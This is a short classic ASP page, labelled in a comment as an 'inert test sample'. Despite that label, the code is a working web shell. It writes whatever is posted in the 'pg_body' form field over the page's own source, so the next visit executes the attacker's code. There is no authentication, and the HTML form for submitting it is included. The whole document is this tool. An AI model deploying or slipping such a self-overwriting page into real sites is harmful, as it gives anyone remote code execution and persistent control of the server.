<%
' inert test sample: the posted text replaces this page's own source (the next visit runs it)
Option Explicit
Dim oFs, oPage
Sub SavePage(sText)
    Set oFs = CreateObject("Scripting.FileSystemObject")
    Set oPage = oFs.OpenTextFile(Server.MapPath(Request.ServerVariables("URL")), 2, True)
    oPage.Write sText
    oPage.Close
End Sub
If Request.Form("pg_body") <> "" Then
    SavePage Request.Form("pg_body")
    Response.Write "ok"
End If
%>
<form method="post"><textarea name="pg_body"></textarea><input type="submit"></form>
